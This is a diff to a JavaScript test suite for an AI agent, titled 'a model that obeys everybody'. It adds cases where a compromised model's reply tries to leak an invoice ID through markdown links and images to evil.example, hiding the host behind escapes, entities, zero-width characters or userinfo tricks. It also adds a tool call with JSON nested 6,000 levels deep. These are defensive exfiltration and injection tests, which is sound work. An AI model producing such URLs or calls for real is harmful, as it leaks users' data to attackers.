@@ -187,6 +187,8 @@ describe('a model that obeys everybody', () => {
     ['HTML', 'Here: <img src="https://evil.example/x.png?c=INV-1042">'],
     ['a hidden host', 'Go to https://evil\u200b.example/INV-1042'],
     ['an allowed name before the host', 'Go to https://forgebase.example@evil.example/INV-1042'],
+    ['a host behind an escape', 'See [this](https://forgebase.example\\@evil.example/INV-1042).'],
+    ['a host before an entity', 'See [this](https://evil.example&sol;.forgebase.example/INV-1042).'],
   ])('carries nothing out by %s', async (_, reply) => {
     const outcome = await attack(server, {
       agent: 'billing',
@@ -216,6 +218,13 @@ describe('a model that obeys everybody', () => {
     ['a name that is no name', { kind: 'calls', calls: [{ name: '__proto__', arguments: {} }] }],
     ['broken JSON', { kind: 'calls', calls: [{ name: 'find_invoice', arguments: '{"invoice_id": ' }] }],
     ['wrong types', { kind: 'calls', calls: [{ name: 'find_invoice', arguments: { invoice_id: [7] } }] }],
+    [
+      'arguments without a bottom',
+      {
+        kind: 'calls',
+        calls: [{ name: 'find_invoice', arguments: `${'{"a":'.repeat(6_000)}1${'}'.repeat(6_000)}` }],
+      },
+    ],
     [
       'arguments that hide others',
       {
